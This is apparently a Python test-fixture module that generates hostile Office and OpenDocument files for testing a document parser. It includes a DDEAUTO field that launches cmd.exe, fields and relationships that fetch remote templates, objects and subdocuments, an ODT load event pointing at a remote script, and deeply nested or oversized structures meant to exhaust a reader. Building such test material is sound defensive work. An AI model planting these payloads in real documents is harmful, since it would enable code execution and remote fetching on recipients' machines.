"""Word and OpenDocument papers with objects, fields and parts that would be run, fetched or followed for ever."""

from __future__ import annotations

from hostile.cases import NOT_WHOLE, READ, SAFE, case
from hostile.office_making import W, docx, docx_table, good_docx, odt, odt_table, zipped
from hostile.xml_cases import ADDRESS

_ODD, _LOOP, _REMOTE, _NEST = "damaged office file", "office file that leads back", "remote references", "deep nesting"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _link(number: int, kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="r{number}" Type="{_OFFICE}/{kind}" Target="{target}"{mode}/>'


def _field(code: str, shown: str) -> str:
    parts = (
        '<w:fldChar w:fldCharType="begin"/>',
        f"<w:instrText>{code}</w:instrText>",
        '<w:fldChar w:fldCharType="separate"/>',
        f"<w:t>{shown}</w:t>",
        '<w:fldChar w:fldCharType="end"/>',
    )
    return "<w:p>" + "".join(f"<w:r>{part}</w:r>" for part in parts) + "</w:p>"


@case("fields-that-run-programs.docx", _REMOTE, READ, actions=3)
def fields_that_run() -> bytes:
    """What a field shows is text of the paper; what it would do is not done."""
    codes = (
        'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', f'INCLUDETEXT "{ADDRESS}/text"',
        f'INCLUDEPICTURE "{ADDRESS}/picture"', f'LINK Excel.Sheet "{ADDRESS}/book" a', "MACROBUTTON AutoOpen x",
    )  # fmt: skip
    return docx("".join(_field(code, "shown") for code in codes) + docx_table())


@case("chunks-objects-and-templates.docx", _REMOTE, NOT_WHOLE, "embedded document", actions=3)
def chunks_and_objects() -> bytes:
    """Another file in place of a paragraph, an object of another program, a template and a subdocument elsewhere."""
    space = f'xmlns:r="{_OFFICE}"'
    body = f'<w:altChunk {space} r:id="r1"/><w:subDoc {space} r:id="r2"/>' + docx_table()
    page = f'<html><img src="{ADDRESS}/img"><script>alert(1)</script></html>'
    kinds = ("attachedTemplate", "oleObject", "frame", "mailMergeSource")
    rels = _link(1, "aFChunk", "chunk.html", external=False) + _link(2, "subDocument", f"{ADDRESS}/sub.docx")
    rels += "".join(_link(n, kind, f"{ADDRESS}/{kind}") for n, kind in enumerate(kinds, 3))
    held = [("word/chunk.html", page), ("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0MZ" * 100)]
    return docx(body, held, rels=rels)


@case("styles-built-on-each-other.docx", _LOOP, SAFE)
def styles_in_a_ring() -> bytes:
    """Styles, numberings and notes, each said to be as the next and the last as the first."""
    ring = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % 3}"/><w:link w:val="s{n}"/>'
        '<w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr></w:style>'
        for n in range(3)
    )
    styles = f'<w:styles xmlns:w="{W}">{ring}</w:styles>'
    numbers = (
        f'<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="s0"/></w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
    )
    note = '<w:footnote w:id="1"><w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p></w:footnote>'
    notes = f'<w:footnotes xmlns:w="{W}">{note}</w:footnotes>'
    body = '<w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr><w:r><w:t>a</w:t><w:footnoteReference w:id="1"/></w:r></w:p>'
    kinds = {"styles": styles, "numbering": numbers, "footnotes": notes}
    rels = "".join(_link(n, kind, f"{kind}.xml", external=False) for n, kind in enumerate(kinds))
    return docx(body + docx_table(), [(f"word/{kind}.xml", text) for kind, text in kinds.items()], rels=rels)


@case("field-that-never-ends.docx", _ODD, SAFE)
def field_never_ends() -> bytes:
    return docx('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>' + docx_table())


@case("boxes-in-controls-in-boxes.docx", _NEST, SAFE)
def nested_controls() -> bytes:
    depth = 150
    begin = "<w:sdt><w:sdtContent><w:p><w:r><w:pict><v:textbox xmlns:v='urn:schemas-microsoft-com:vml'><w:txbxContent>"
    end = "</w:txbxContent></v:textbox></w:pict></w:r></w:p></w:sdtContent></w:sdt>"
    return docx(docx_table() + begin * depth + "<w:p/>" + end * depth)


@case("changes-in-changes.docx", _NEST, SAFE)
def nested_changes() -> bytes:
    depth = 3_000
    runs = (
        '<w:ins w:id="1"><w:del w:id="2">' * depth + "<w:r><w:delText>x</w:delText></w:r>" + "</w:del></w:ins>" * depth
    )
    return docx(f"<w:p>{runs}</w:p>" + docx_table())


@case("runs-by-the-hundred-thousand.docx", _ODD, SAFE, sizes=(3_000, 400_000))
def many_runs(size: int) -> bytes:
    """A paragraph of one letter a run."""
    runs = "".join(
        f'<w:r><w:rPr><w:b w:val="{n % 2}"/></w:rPr><w:t>{chr(97 + n % 26)}</w:t></w:r>' for n in range(size)
    )
    return docx(f"<w:p>{runs}</w:p>" + docx_table())


@case("marks-on-letters.docx", "odd characters", SAFE, sizes=(3_000, 2_000_000))
def marks_on_letters(size: int) -> bytes:
    """A cell of combining marks: to put a run of them in order takes the square of its length."""
    rows = [
        list(row) for row in (("Ref", "Action", "Lead officer", "Due by"), ("MB1", "", "Head of Parks", "June 2025"))
    ]
    rows[1][1] = "Plant limes a" + "\u0315\u0300" * (size // 2)
    return docx(docx_table(rows))


@case("strict-words.docx", _ODD, SAFE)
def strict() -> bytes:
    """The strict form of the format, whose names are others."""
    import io
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good_docx())) as good, zipfile.ZipFile(out, "w") as archive:
        for name in good.namelist():
            data = good.read(name).decode()
            data = data.replace(W, "http://purl.oclc.org/ooxml/wordprocessingml/main")
            data = data.replace(_OFFICE, "http://purl.oclc.org/ooxml/officeDocument/relationships")
            archive.writestr(zipfile.ZipInfo(name), data)
    return out.getvalue()


@case("document-in-utf-16.docx", "odd characters", READ, actions=3)
def utf_16() -> bytes:
    import io
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good_docx())) as good, zipfile.ZipFile(out, "w") as archive:
        for name in good.namelist():
            data = good.read(name)
            if name == "word/document.xml":
                data = ('<?xml version="1.0" encoding="UTF-16"?>' + data.decode()).encode("utf-16")
            archive.writestr(zipfile.ZipInfo(name), data)
    return out.getvalue()


@case("styles-built-on-each-other.odt", _LOOP, SAFE)
def odt_styles_in_a_ring() -> bytes:
    ring = "".join(
        f'<style:style style:name="s{n}" style:family="paragraph" style:parent-style-name="s{(n + 1) % 3}"/>'
        for n in range(3)
    )
    names = "urn:oasis:names:tc:opendocument:xmlns:"
    spaces = f'xmlns:office="{names}office:1.0" xmlns:style="{names}style:1.0"'
    styles = f"<office:document-styles {spaces}><office:styles>{ring}</office:styles></office:document-styles>"
    return odt('<text:p text:style-name="s0">a</text:p>' + odt_table(), [("styles.xml", styles)])


@case("events-and-frames-elsewhere.odt", _REMOTE, READ, actions=3)
def odt_events() -> bytes:
    spaces = (
        'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
        'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
    )
    event = f'<script:event-listener script:event-name="dom:load" xlink:href="{ADDRESS}/run.py"/>'
    frame = f'<draw:floating-frame xlink:href="{ADDRESS}/frame"/><draw:object xlink:href="{ADDRESS}/object"/>'
    return odt(f"<text:p><draw:frame {spaces}>{frame}{event}</draw:frame></text:p>" + odt_table())


@case("frames-nested-5000-deep.odt", _NEST, SAFE)
def odt_frames() -> bytes:
    space = 'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
    begin, end = f"<text:p><draw:frame {space}><draw:text-box>", "</draw:text-box></draw:frame></text:p>"
    return odt(odt_table() + begin * 5_000 + end * 5_000)


@case("word-without-its-types.docx", _ODD, SAFE)
def without_types() -> bytes:
    body = f'<w:document xmlns:w="{W}"><w:body>{docx_table()}</w:body></w:document>'
    return zipped([("word/document.xml", body)])
